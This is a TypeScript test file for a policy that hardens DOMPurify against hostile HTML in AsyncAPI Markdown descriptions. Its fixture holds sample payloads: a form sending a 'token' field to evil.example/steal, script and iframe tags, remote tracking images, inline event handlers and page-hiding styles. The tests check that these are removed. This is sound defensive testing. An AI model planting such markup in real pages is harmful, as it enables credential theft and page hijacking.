import assert from 'node:assert/strict';
import { test } from 'node:test';
// The renderer's sanitiser: @asyncapi/react-component turns Markdown into HTML with marked, which passes raw HTML
// through, then cleans it with isomorphic-dompurify (on jsdom here, on the browser's DOM in the bundle).
import DOMPurify from 'isomorphic-dompurify';
import { hardenMarkdownSanitiser } from './markdown-sanitiser.ts';

// What marked makes of a hostile description: its raw HTML verbatim, Markdown as tags.
const HOSTILE = [
  '<p>Stock <strong>levels</strong>, see <a href="https://wiki.example/stock">the runbook</a>.</p>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/steal"><input name="token"><button>Go</button></form>',
  '<iframe src="https://evil.example/"></iframe><script>alert(1)</script>',
  '<img src="https://evil.example/pixel.png"> <img src="//evil.example/p.png"> <img src="http://evil.example/c.png" alt="chart">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
  '<div class="fixed inset-0 z-50" style="background:white" onclick="alert(1)" onmouseover="alert(2)">over</div>',
  '<pre><code class="language-json">{"sku": "A1"}</code></pre>',
].join('\n\n');

function render(html: string): string {
  return DOMPurify.sanitize(html);
}

test('without the policy, DOMPurify keeps <style>, forms and remote images (why the policy exists)', () => {
  const html = render(HOSTILE);
  assert.match(html, /<style>/);
  assert.match(html, /<form/);
  assert.match(html, /src="https:\/\/evil\.example/);
});

test('descriptions keep their Markdown but lose styles, forms, frames, scripts, handlers and remote images', () => {
  assert.equal(hardenMarkdownSanitiser(DOMPurify), true);
  const html = render(HOSTILE);
  for (const tag of ['style', 'form', 'input', 'button', 'iframe', 'script']) assert.doesNotMatch(html, new RegExp(`<${tag}`, 'i'));
  assert.doesNotMatch(html, /\s(style|on\w+)=/i);
  assert.doesNotMatch(html, /display:none|alert/);
  assert.deepEqual(
    [...html.matchAll(/<img[^>]*>/g)].map(([img]) => /src="([^"]*)"/.exec(img)?.[1] ?? null),
    [null, null, null, 'data:image/png;base64,iVBORw0KGgo='],
  );
  assert.match(html, /<strong>levels<\/strong>/);
  assert.match(html, /<a href="https:\/\/wiki\.example\/stock">the runbook<\/a>/);
  assert.match(html, /<div>over<\/div>/, 'layout classes could lay a description over the page');
  assert.match(html, /<code class="language-json">/);
});

test('the policy is applied once however often the renderer loads, and refuses what is not DOMPurify', () => {
  assert.equal(hardenMarkdownSanitiser(DOMPurify), true);
  assert.equal(DOMPurify.sanitize('<p class="hljs-string hidden">x</p>'), '<p class="hljs-string">x</p>');
  assert.equal(hardenMarkdownSanitiser(undefined), false);
  assert.equal(hardenMarkdownSanitiser({ sanitize: (html: string) => html }), false);
});
